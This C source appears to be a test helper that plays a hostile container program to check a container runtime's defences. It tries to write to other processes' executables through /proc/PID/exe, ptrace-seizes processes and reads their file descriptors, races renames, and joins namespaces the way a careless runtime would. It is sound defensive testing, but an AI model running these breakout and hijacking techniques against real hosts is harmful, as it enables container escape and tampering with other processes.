/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attacker: what a hostile program in a container, or a hostile owner of an image, tries. Static and
 * without a library of its own choice. Each verb ends by SIGTERM or by itself and prints what it
 * achieved.
 *
 *   overwrite NAME     opens /proc/PID/exe of every process that does not execute NAME, and tries to
 *                      write the first byte it has, again and again: "written", "refused" or "busy"
 *   peek NAME          takes hold of every process that does not call itself NAME: ptrace, its fds
 *   swap A B           exchanges two names for ever
 *   enter PID PROGRAM  what a careless runtime does: joins the namespaces of PID, has no more
 *                      capabilities than the attacker, stays dumpable, executes
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { HELD = 64, PATH = 300, CARELESS_US = 30000 };

static volatile sig_atomic_t over;

static void end(int signal)
{
    (void)signal;
    over = 1;
}

/* Calls fn for every other process. */
static void each_process(void (*fn)(int pid, const char *name), const char *name)
{
    DIR *proc = opendir("/proc");
    struct dirent *d;

    while (proc && (d = readdir(proc))) {
        int pid = atoi(d->d_name);

        if (pid > 0 && pid != getpid())
            fn(pid, name);
    }
    if (proc)
        closedir(proc);
}

/* ---- overwrite ------------------------------------------------------------------------------- */

static struct {
    int fd[HELD];
    unsigned next;
    unsigned long seen, written, refused, busy;
} target = { .fd = { [0 ... HELD - 1] = -1 } };

static void hold_exe(int pid, const char *name)
{
    char path[PATH], exe[PATH];
    ssize_t len;
    int fd;

    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    len = readlink(path, exe, sizeof exe - 1);
    if (len <= 0)
        return;
    exe[len] = '\0';
    if (strstr(exe, name))
        return;
    fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    target.seen++;
    if (target.fd[target.next] >= 0)
        close(target.fd[target.next]);
    target.fd[target.next] = fd;
    target.next = (target.next + 1) % HELD;
}

static void try_held(void)
{
    for (int i = 0; i < HELD; i++) {
        char path[PATH];
        int fd;

        if (target.fd[i] < 0)
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", target.fd[i]);
        /* A sealed copy in memory can be opened, and not written to. The byte is ELF's first, so that
         * what is hurt goes on running. */
        fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0 && pwrite(fd, "\x7f", 1, 0) == 1)
            target.written++;
        else if (fd < 0 && errno == ETXTBSY)
            target.busy++;
        else
            target.refused++;
        if (fd >= 0)
            close(fd);
    }
}

static int overwrite(const char *name)
{
    puts("ready");
    fflush(stdout);
    while (!over) {
        each_process(hold_exe, name);
        try_held();
    }
    for (int i = 0; i < 20; i++) { /* what was busy has ended by now */
        try_held();
        usleep(10000);
    }
    printf("seen %lu written %lu refused %lu busy %lu\n", target.seen, target.written,
           target.refused, target.busy);
    return 0;
}

/* ---- peek ------------------------------------------------------------------------------------ */

static unsigned long seen, seized, fds;

static bool calls_itself(int pid, const char *name)
{
    char path[PATH], text[32] = "";
    int fd;
    ssize_t n;

    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    n = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
    if (fd >= 0)
        close(fd);
    text[n > 0 ? n - 1 : 0] = '\0';
    return n <= 0 || !strcmp(text, name);
}

static void read_fds(int pid, const char *name)
{
    char path[PATH], where[PATH];

    for (int fd = 3; fd < 20; fd++) {
        ssize_t n;

        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        n = readlink(path, where, sizeof where);
        if (n > 0 && !calls_itself(pid, name))
            fds++;
    }
}

static void peek_at(int pid, const char *name)
{
    if (calls_itself(pid, name))
        return;
    seen++;
    read_fds(pid, name);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
        return;
    if (!calls_itself(pid, name))
        seized++;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

static int peek(const char *name)
{
    puts("ready");
    fflush(stdout);
    while (!over)
        each_process(peek_at, name);
    printf("seen %lu seized %lu fds %lu\n", seen, seized, fds);
    return 0;
}

/* ---- swap, enter ----------------------------------------------------------------------------- */

static int swap(const char *a, const char *b)
{
    unsigned long turns = 0;

    puts("ready");
    fflush(stdout);
    for (; !over; turns++)
        syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
    if (turns % 2) /* as it was */
        syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
    printf("turns %lu\n", turns);
    return 0;
}

static int enter(const char *pid, const char *program)
{
    int fd = (int)syscall(SYS_pidfd_open, atoi(pid), 0), status;
    struct __user_cap_header_struct header = { .version = _LINUX_CAPABILITY_VERSION_3 };
    struct __user_cap_data_struct none[_LINUX_CAPABILITY_U32S_3] = { 0 };
    char *argv[] = { (char *)program, NULL };

    /* EINVAL: it is in that user namespace already. */
    if (setns(fd, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0 &&
        (errno != EINVAL || setns(fd, CLONE_NEWNS | CLONE_NEWPID) < 0))
        return 90;
    if (fork() == 0) {
        syscall(SYS_capset, &header, none);
        usleep(CARELESS_US);
        execv(program, argv);
        _exit(91);
    }
    wait(&status);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 92;
}

int main(int argc, char **argv)
{
    struct sigaction action = { .sa_handler = end };
    const char *verb = argc > 2 ? argv[1] : "";

    sigaction(SIGTERM, &action, NULL);
    if (!strcmp(verb, "overwrite"))
        return overwrite(argv[2]);
    if (!strcmp(verb, "peek"))
        return peek(argv[2]);
    if (!strcmp(verb, "swap") && argc == 4)
        return swap(argv[2], argv[3]);
    if (!strcmp(verb, "enter") && argc == 4)
        return enter(argv[2], argv[3]);
    fprintf(stderr, "attacker: unknown verb '%s'\n", verb);
    return 97;
}
